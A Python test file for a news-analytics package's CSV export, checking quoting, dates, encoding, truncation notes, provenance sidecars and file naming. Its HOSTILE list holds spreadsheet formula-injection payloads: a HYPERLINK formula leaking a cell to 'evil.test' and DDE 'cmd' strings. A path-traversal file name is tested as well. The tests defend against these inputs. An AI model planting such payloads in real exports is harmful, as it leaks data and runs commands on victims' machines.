import io
import json
from datetime import date, datetime, timezone

import pandas as pd
import pytest
from conftest import article
from pandas.testing import assert_frame_equal

from analytics import load_corpus
from analytics import schema as s
from analytics.measure import metrics as m
from analytics.measure.filters import Filters
from analytics.present.export import (
    INCOMPLETE,
    TABLES,
    Provenance,
    csv_bytes,
    export_csv,
    export_table,
    file_name,
    provenance_of,
)

BOM = b"\xef\xbb\xbf"
HOSTILE = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def read_back(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), keep_default_na=True)


@pytest.mark.parametrize("cell", HOSTILE)
def test_hostile_text_cells_come_back_neutralised(cell):
    frame = pd.DataFrame({
        s.TITLE: pd.Series([cell, "Plain"], dtype=s.STRING),
        s.PROVIDER_NAME: pd.Series([cell, "Plain"], dtype="category"),
        "labels": [[cell, "x"], ["y"]],
        "anything": [cell, 1],
    })
    back = read_back(csv_bytes(frame))
    assert back[s.TITLE].tolist() == ["'" + cell, "Plain"]
    assert back[s.PROVIDER_NAME].tolist() == ["'" + cell, "Plain"]
    assert back["labels"].tolist() == ["'" + cell + "; x", "y"]
    assert back["anything"].tolist() == ["'" + cell, "1"]


def test_every_text_cell_is_quoted_so_no_cell_can_break_out():
    frame = pd.DataFrame({"text": pd.Series(['a","=1+1', "plain"], dtype=s.STRING), "n": [1, 2]})
    lines = csv_bytes(frame).decode("utf-8-sig").splitlines()
    assert lines == ['"text","n"', '"a"",""=1+1",1', '"plain",2']


def test_numbers_stay_numbers_even_negative_ones():
    frame = pd.DataFrame({
        "ints": pd.Series([-2, None, 3], dtype="Int64"),
        "floats": pd.Series([-1.5, None, 2.25], dtype="Float64"),
        "plain": [-7.0, 0.5, float("nan")],
        "flag": pd.Series([True, None, False], dtype="boolean"),
    })
    back = read_back(csv_bytes(frame))
    assert all(pd.api.types.is_numeric_dtype(back[column]) for column in ("ints", "floats", "plain"))
    assert back["ints"].tolist()[::2] == [-2, 3] and pd.isna(back["ints"][1])
    assert back["floats"].tolist()[::2] == [-1.5, 2.25]
    assert back["plain"].tolist()[:2] == [-7.0, 0.5]
    assert back["flag"].tolist()[::2] == [True, False]


def test_utf8_with_one_bom_and_non_ascii_text_intact():
    data = csv_bytes(pd.DataFrame({s.TITLE: ["Café — “quotes” ünd 日本"]}))
    assert data.startswith(BOM) and data.count(BOM) == 1
    assert read_back(data)[s.TITLE].tolist() == ["Café — “quotes” ünd 日本"]


def test_dates_are_iso_8601_in_utc():
    frame = pd.DataFrame({
        s.PUBLISHED_AT: pd.to_datetime(["2026-03-01T10:00:00+02:00", None], utc=True).as_unit("us"),
        m.PERIOD: pd.to_datetime(["2026-03-01", "2026-04-01"]),
        "moment": pd.to_datetime(["2026-03-01T10:30:00", "2026-03-01T00:00:00"]),
        "local": pd.to_datetime(["2026-03-01T10:00:00"]).tz_localize("America/New_York").append(pd.DatetimeIndex([pd.NaT], tz="America/New_York")),
    })
    back = read_back(csv_bytes(frame))
    assert back[s.PUBLISHED_AT][0] == "2026-03-01T08:00:00Z" and pd.isna(back[s.PUBLISHED_AT][1])
    assert back[m.PERIOD].tolist() == ["2026-03-01", "2026-04-01"]
    assert back["moment"].tolist() == ["2026-03-01T10:30:00Z", "2026-03-01T00:00:00Z"]
    assert back["local"][0] == "2026-03-01T15:00:00Z"


def _corpus(write, tmp_path):
    write("a.md", article(1, topics=["AI", "Policy"], related=[{"title": "Elsewhere", "webUrl": "https://other.test/x"}]))
    write("b.md", article(2, provider={"name": "Other Outlet", "domain": "other.test"}, topics=["Chips"], quality=None, heat=None, published=None))
    write("c.md", article(3, title="Café: “quoted”, with commas", excerpt=None))
    write("bad.md", "---\ntitle: [\n---\n")
    return load_corpus(tmp_path)


def test_round_trip_of_a_clean_export_gives_the_same_rows(write, tmp_path):
    corpus = _corpus(write, tmp_path)
    articles = corpus.articles.drop(columns=s.ARTICLE_KEY)  # as the articles table is exported
    back = read_back(csv_bytes(articles))
    back[s.PUBLISHED_AT] = pd.to_datetime(back[s.PUBLISHED_AT], utc=True).astype(s.TIMESTAMP)
    back = back.astype({name: dtype for name, dtype in s.ARTICLE_DTYPES.items() if name not in (s.PUBLISHED_AT, s.ARTICLE_KEY)})
    assert_frame_equal(back, articles.reset_index(drop=True), check_categorical=False)


def test_round_trip_of_a_metric_frame(write, tmp_path):
    corpus = _corpus(write, tmp_path)
    frame = m.provider_share(corpus.articles)
    assert_frame_equal(read_back(csv_bytes(frame)), frame, check_dtype=False)


def test_truncated_export_says_so_in_its_last_line_and_sidecar():
    frame = pd.DataFrame({"n": range(5), "text": list("abcde")})
    result = export_csv(frame, limit=2, provenance=Provenance(view="volume"))
    assert (result.rows, result.total_rows, result.complete) == (2, 5, False)
    last = result.data.decode("utf-8-sig").splitlines()[-1]
    assert last == f'"{INCOMPLETE}: only the first 2 of 5 rows were exported (row limit)"'
    assert result.sidecar()["complete"] is False and "2 of 5" in result.sidecar()["note"]
    back = read_back(result.data)
    assert back["n"].iloc[-1] == f"{INCOMPLETE}: only the first 2 of 5 rows were exported (row limit)"


@pytest.mark.parametrize("limit", [None, 5, 10])
def test_export_within_the_limit_is_complete_and_unmarked(limit):
    result = export_csv(pd.DataFrame({"n": range(5)}), limit=limit)
    assert result.complete and result.rows == 5 and INCOMPLETE.encode() not in result.data
    assert result.sidecar()["note"] is None


def test_sidecar_states_sources_filters_period_rows_and_time(write, tmp_path):
    corpus = _corpus(write, tmp_path)
    filters = Filters(start=date(2026, 3, 1), providers=("example-news.test",), search="Story")
    stamp = datetime(2026, 4, 2, 9, 30, tzinfo=timezone.utc)
    provenance = provenance_of("volume", corpus, filters, generated_at=stamp)
    result = export_csv(export_table(corpus, filters, "articles"), provenance=provenance)
    sidecar = json.loads(result.sidecar_json())
    assert sidecar == {
        "file": "volume_2026-03-01_2026-03-03.csv",
        "view": "volume",
        "sources": [str(tmp_path)],
        "filters": ["dates 2026-03-01 to …", "outlets: example-news.test", "search: “Story”"],
        "start": "2026-03-01",
        "end": "2026-03-03",
        "rows": 1,
        "total_rows": 1,
        "complete": True,
        "note": None,
        "generated_at": "2026-04-02T09:30:00Z",
    }


@pytest.mark.parametrize(
    ("view", "start", "end", "expected"),
    [
        ("volume", date(2026, 1, 1), date(2026, 3, 31), "volume_2026-01-01_2026-03-31.csv"),
        ("Topic mix", date(2026, 1, 1), None, "topic-mix_from_2026-01-01.csv"),
        ("quality-heat", None, date(2026, 3, 31), "quality-heat_until_2026-03-31.csv"),
        ("../../etc/passwd", None, None, "etc-passwd_all.csv"),
    ],
)
def test_file_name_carries_view_and_period(view, start, end, expected):
    assert file_name(view, start, end) == expected


def test_every_table_exports_only_what_the_filters_keep(write, tmp_path):
    corpus = _corpus(write, tmp_path)
    only_example = Filters(providers=("example-news.test",))
    tables = {name: export_table(corpus, only_example, name) for name in TABLES}
    assert sorted(tables["articles"][s.TITLE]) == ["Café: “quoted”, with commas", "Story number 1"]
    assert set(tables["topics"][s.TOPIC].astype(str)) == {"AI", "Policy"}
    assert tables["related"][s.TITLE].tolist() == ["Elsewhere"]
    for name in ("articles", "topics", "related"):  # the load's own numbering means nothing outside it
        assert s.ARTICLE_KEY not in tables[name].columns and s.DOC_ID in tables[name].columns
    assert tables["problems"][s.PATH].tolist() == [str(tmp_path / "bad.md")]  # files, not articles: unfiltered
    assert tables["volume"][m.COUNT].sum() == 2
    assert tables["providers"][m.ARTICLES].tolist() == [2]
    assert set(tables["topic-mix"][m.GROUP]) == {"AI", "Policy"}
    assert len(tables["quality-heat"]) == 2
    with pytest.raises(ValueError, match="unknown table"):
        export_table(corpus, only_example, "secrets")


def test_the_articles_export_has_topics_excerpt_and_path_from_every_front_door():
    from pathlib import Path

    from analytics import load_corpus
    from analytics.measure import metrics as m
    from analytics.measure.filters import Filters
    from analytics.present.export import articles_table, export_table

    corpus = load_corpus(Path(__file__).resolve().parents[2] / "sample_data")
    cli = export_table(corpus, Filters(topics=("AI",)), "articles")
    assert {m.TOPICS_TEXT, "excerpt", "path", "title", "doc_id"} <= set(cli.columns)
    assert list(cli.columns).index(m.TOPICS_TEXT) == list(cli.columns).index("title") + 1
    assert cli[m.TOPICS_TEXT].str.contains("AI").all()
    assert list(articles_table(corpus.articles.head(3), corpus.topics).columns) == list(cli.columns)
